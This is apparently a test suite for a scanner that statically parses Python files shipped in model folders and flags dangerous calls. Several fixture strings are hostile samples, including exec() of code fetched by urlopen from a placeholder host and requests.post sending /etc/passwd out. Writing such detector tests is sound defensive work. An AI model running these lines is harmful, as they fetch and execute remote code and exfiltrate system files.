"""Python code shipped in a model folder: parsed with ast, never run."""

from __future__ import annotations

import io

from mlgate.core.findings import Finding
from mlgate.core.policy.scan import ScanPolicy
from mlgate.scan.base import ScanContext
from mlgate.scan.pycode import PythonCodeHandler


def scan(src: str | bytes, name: str = "modeling_x.py") -> list[Finding]:
    data = src.encode() if isinstance(src, str) else src
    c = ScanContext(path=name, name=name, policy=ScanPolicy())
    return PythonCodeHandler().scan(io.BytesIO(data), len(data), c)


def rules(f: list[Finding]) -> list[str]:
    return sorted(x.rule_id for x in f)


BENIGN = '''
import os
import json
import torch
from torch import nn

class XModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dim = getattr(config, "hidden_size", 32)
        path = os.path.join(os.path.dirname(__file__), "vocab.json")
        with open(path) as f:
            self.vocab = json.load(f)
'''


def test_plain_model_code_is_medium_only() -> None:
    f = scan(BENIGN)
    assert rules(f) == ["MLG-SCAN-160"] and f[0].severity.value == "medium"


def test_os_system_at_module_level() -> None:
    f = scan("import os\nos.system('touch /tmp/mlgate-marker')\n")
    assert rules(f) == ["MLG-SCAN-160", "MLG-SCAN-161"]
    high = next(x for x in f if x.rule_id == "MLG-SCAN-161")
    assert "os.system() (line 2)" in high.detail and high.location and high.location.line == 2


def test_subprocess_alias_inside_function() -> None:
    src = "import subprocess as sp\ndef f():\n    sp.check_output(['id'])\n"
    f = scan(src)
    high = next(x for x in f if x.rule_id == "MLG-SCAN-161")
    assert "subprocess.check_output()" in high.detail and "import subprocess" in high.detail


def test_eval_exec_and_network() -> None:
    src = ("from urllib.request import urlopen\nimport socket\n"
           "exec(urlopen('http://x').read())\ns = socket.socket()\neval('1')\n")
    high = next(x for x in scan(src) if x.rule_id == "MLG-SCAN-161")
    for needle in ("exec()", "eval()", "urllib.request.urlopen()", "socket.socket()"):
        assert needle in high.detail


def test_requests_post_exfiltration() -> None:
    high = next(x for x in scan("import requests\nrequests.post('http://x', data=open('/etc/passwd'))\n")
                if x.rule_id == "MLG-SCAN-161")
    assert "requests.post()" in high.detail


def test_syntax_error_is_a_finding() -> None:
    assert rules(scan("def (:\n")) == ["MLG-SCAN-162"]


def test_null_bytes_is_a_finding() -> None:
    assert rules(scan(b"x = 1\x00\n")) == ["MLG-SCAN-162"]


def test_from_urllib_import_request() -> None:
    high = next(x for x in scan("from urllib import request\nrequest.urlopen('http://x')\n")
                if x.rule_id == "MLG-SCAN-161")
    assert "import urllib (request)" in high.detail and "urllib.request.urlopen()" in high.detail
